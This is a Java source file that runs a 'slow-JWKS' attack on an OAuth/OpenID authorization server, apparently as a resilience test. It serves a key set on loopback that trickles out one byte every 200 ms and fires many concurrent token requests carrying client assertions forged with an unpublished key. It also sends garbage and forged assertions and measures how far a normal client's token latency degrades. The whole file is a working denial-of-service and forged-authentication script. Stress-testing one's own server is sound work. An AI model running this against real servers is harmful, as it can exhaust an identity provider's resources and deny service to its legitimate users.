import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.Signature;
import java.security.spec.ECGenParameterSpec;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The slow-JWKS attack on a running server. Plays the key set host of a private_key_jwt client on
 * loopback, sending its body a byte every 200 ms (never a whole JWKS), then sends REQUESTS token
 * requests at once whose client assertions name that client (signed by a key it never published),
 * while a client_secret_basic client asks for tokens in a loop. Before that, GARBAGE unparseable
 * assertions naming client garbage-keys and GARBAGE forged ones for forged-keys (their key set URLs,
 * /fail-garbage and /fail-forged on the same host, answer 500).
 * Needs nothing but a JDK:
 *   java SlowJwks.java BASE_URL JWKS_PORT CLIENT TOKEN_CLIENT_ID TOKEN_CLIENT_SECRET REQUESTS GARBAGE
 * Prints lines starting with RESULT: fetches the host saw (and most at once), the answers by status,
 * their latency, and the normal client's tokens and latency while the attack was answered.
 */
public final class SlowJwks {

    public static void main(String[] args) throws Exception {
        String base = args[0];
        int jwksPort = Integer.parseInt(args[1]);
        String client = args[2];
        String normalId = args[3];
        String normalSecret = args[4];
        int requests = Integer.parseInt(args[5]);
        int garbage = Integer.parseInt(args[6]);

        AtomicInteger fetches = new AtomicInteger();
        AtomicInteger open = new AtomicInteger();
        AtomicInteger mostOpen = new AtomicInteger();
        HttpServer host = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), jwksPort), 0);
        ExecutorService hostThreads = Executors.newCachedThreadPool();
        host.createContext("/jwks", exchange -> {
            fetches.incrementAndGet();
            mostOpen.accumulateAndGet(open.incrementAndGet(), Math::max);
            try (OutputStream out = exchange.getResponseBody()) {
                exchange.sendResponseHeaders(200, 0);
                out.write("{\"keys\":[".getBytes(StandardCharsets.US_ASCII));
                for (int i = 0; i < 600; i++) {
                    out.write(' ');
                    out.flush();
                    Thread.sleep(200);
                }
            } catch (IOException e) {
                // The server gave up on the body and dropped the connection.
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
            } finally {
                open.decrementAndGet();
            }
        });
        Map<String, AtomicInteger> failingFetches = new TreeMap<>();
        for (String path : List.of("/fail-garbage", "/fail-forged")) {
            AtomicInteger n = new AtomicInteger();
            failingFetches.put(path, n);
            host.createContext(path, exchange -> {
                n.incrementAndGet();
                exchange.sendResponseHeaders(500, -1);
                exchange.close();
            });
        }
        host.setExecutor(hostThreads);
        host.start();

        HttpClient http = HttpClient.newBuilder()
                .version(HttpClient.Version.HTTP_1_1)
                .connectTimeout(Duration.ofSeconds(5))
                .executor(Executors.newCachedThreadPool())
                .build();
        URI token = URI.create(base + "/tenants/default/token");
        String discovery = http.send(
                        HttpRequest.newBuilder(URI.create(base + "/tenants/default/.well-known/openid-configuration"))
                                .build(),
                        HttpResponse.BodyHandlers.ofString())
                .body();
        Matcher m = Pattern.compile("\"issuer\"\\s*:\\s*\"([^\"]+)\"").matcher(discovery);
        if (!m.find()) {
            throw new IllegalStateException("no issuer in " + discovery);
        }
        String issuer = m.group(1);
        KeyPairGenerator g = KeyPairGenerator.getInstance("EC");
        g.initialize(new ECGenParameterSpec("secp256r1"));
        KeyPair forger = g.generateKeyPair();
        List<String> assertions = new ArrayList<>();
        for (int i = 0; i < requests; i++) {
            assertions.add(assertion(forger, client, issuer));
        }

        // Before the attack, each against a client of its own whose jwks_uri answers 500: GARBAGE
        // assertions that do not parse (client_id names the client), then GARBAGE well-formed ones
        // signed by a key the client never published.
        Map<Long, Integer> garbageStatus = new TreeMap<>();
        for (int i = 0; i < garbage; i++) {
            String junk = "eyJhbGciOiJFUzI1NiJ9." + UUID.randomUUID() + ".c2ln";
            garbageStatus.merge(send(http, token, junk, "garbage-keys")[0], 1, Integer::sum);
        }
        System.out.println("RESULT garbage unparseable_assertions=" + garbage + " answers_by_status=" + garbageStatus
                + " jwks_fetches=" + failingFetches.get("/fail-garbage").get());
        Map<Long, Integer> forgedStatus = new TreeMap<>();
        for (int i = 0; i < garbage; i++) {
            forgedStatus.merge(send(http, token, assertion(forger, "forged-keys", issuer))[0], 1, Integer::sum);
        }
        System.out.println("RESULT garbage forged_assertions=" + garbage + " answers_by_status=" + forgedStatus
                + " jwks_fetches=" + failingFetches.get("/fail-forged").get());

        // The normal client, from before the attack until every attack request is answered.
        AtomicBoolean attackOver = new AtomicBoolean();
        List<Long> normalMillis = Collections.synchronizedList(new ArrayList<>());
        Map<Long, Integer> normalStatuses = Collections.synchronizedMap(new TreeMap<>());
        String basic = "Basic "
                + Base64.getEncoder().encodeToString((normalId + ":" + normalSecret).getBytes(StandardCharsets.UTF_8));
        Thread normal = new Thread(() -> {
            while (!attackOver.get() && !Thread.currentThread().isInterrupted()) {
                long[] r = post(http, token, "grant_type=client_credentials", basic);
                long status = r[0];
                normalMillis.add(r[1]);
                normalStatuses.merge(status, 1, Integer::sum);
            }
        });

        ExecutorService attackers = Executors.newFixedThreadPool(requests);
        CountDownLatch go = new CountDownLatch(1);
        List<Future<long[]>> answers = new ArrayList<>();
        for (String a : assertions) {
            answers.add(attackers.submit(() -> {
                go.await();
                return send(http, token, a);
            }));
        }
        long start = System.nanoTime();
        normal.start();
        go.countDown();
        Map<Long, Integer> byStatus = new TreeMap<>();
        List<Long> millis = new ArrayList<>();
        int waited = 0;
        for (Future<long[]> f : answers) {
            long[] r = f.get(120, TimeUnit.SECONDS);
            byStatus.merge(r[0], 1, Integer::sum);
            millis.add(r[1]);
            if (r[1] >= 4000) {
                waited++;
            }
        }
        long total = TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - start);
        attackOver.set(true);
        normal.join();
        attackers.shutdownNow();
        System.out.println("RESULT attack requests=" + requests + " answers_by_status=" + byStatus + " "
                + percentiles(millis) + " answered_after_4s_or_more=" + waited + " all_answered_ms=" + total);
        System.out.println("RESULT attack jwks_fetches=" + fetches.get() + " most_fetches_at_once=" + mostOpen.get());
        System.out.println("RESULT normal_client_during_attack tokens=" + normalMillis.size() + " by_status="
                + normalStatuses + " " + percentiles(normalMillis));

        host.stop(0);
        hostThreads.shutdownNow();
        System.exit(0);
    }

    /** Status and milliseconds of one token request with this assertion (and client_id, when given). */
    private static long[] send(HttpClient http, URI token, String assertion, String... clientId) {
        String body = "grant_type=client_credentials"
                + "&client_assertion_type=urn%3Aietf%3Aparams%3Aoauth%3Aclient-assertion-type%3Ajwt-bearer"
                + "&client_assertion=" + assertion
                + (clientId.length > 0 ? "&client_id=" + clientId[0] : "");
        return post(http, token, body, null);
    }

    /** Status (-1: no answer within 60 s, or the connection failed) and milliseconds of one form POST. */
    private static long[] post(HttpClient http, URI token, String body, String authorization) {
        HttpRequest.Builder request = HttpRequest.newBuilder(token)
                .timeout(Duration.ofSeconds(60))
                .header("Content-Type", "application/x-www-form-urlencoded")
                .POST(HttpRequest.BodyPublishers.ofString(body));
        if (authorization != null) {
            request.header("Authorization", authorization);
        }
        long t0 = System.nanoTime();
        long status;
        try {
            status = http.send(request.build(), HttpResponse.BodyHandlers.ofString())
                    .statusCode();
        } catch (IOException e) {
            status = -1;
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            status = -2;
        }
        return new long[] {status, TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - t0)};
    }

    /** An ES256 client assertion for {@code client}, with a kid the client never published. */
    private static String assertion(KeyPair key, String client, String issuer) throws Exception {
        long now = System.currentTimeMillis() / 1000;
        String header = "{\"alg\":\"ES256\",\"kid\":\"not-published\"}";
        String claims = "{\"iss\":\"" + client + "\",\"sub\":\"" + client + "\",\"aud\":\"" + issuer + "\",\"iat\":"
                + now + ",\"exp\":" + (now + 120) + ",\"jti\":\"" + UUID.randomUUID() + "\"}";
        Base64.Encoder b64 = Base64.getUrlEncoder().withoutPadding();
        String input = b64.encodeToString(header.getBytes(StandardCharsets.UTF_8)) + "."
                + b64.encodeToString(claims.getBytes(StandardCharsets.UTF_8));
        Signature s = Signature.getInstance("SHA256withECDSAinP1363Format");
        s.initSign(key.getPrivate());
        s.update(input.getBytes(StandardCharsets.US_ASCII));
        return input + "." + b64.encodeToString(s.sign());
    }

    private static String percentiles(List<Long> millis) {
        List<Long> sorted = new ArrayList<>(millis);
        Collections.sort(sorted);
        if (sorted.isEmpty()) {
            return "p50_ms=- p99_ms=- max_ms=-";
        }
        return "p50_ms=" + sorted.get(sorted.size() / 2) + " p99_ms=" + sorted.get((int) (sorted.size() * 0.99))
                + " max_ms=" + sorted.get(sorted.size() - 1);
    }
}
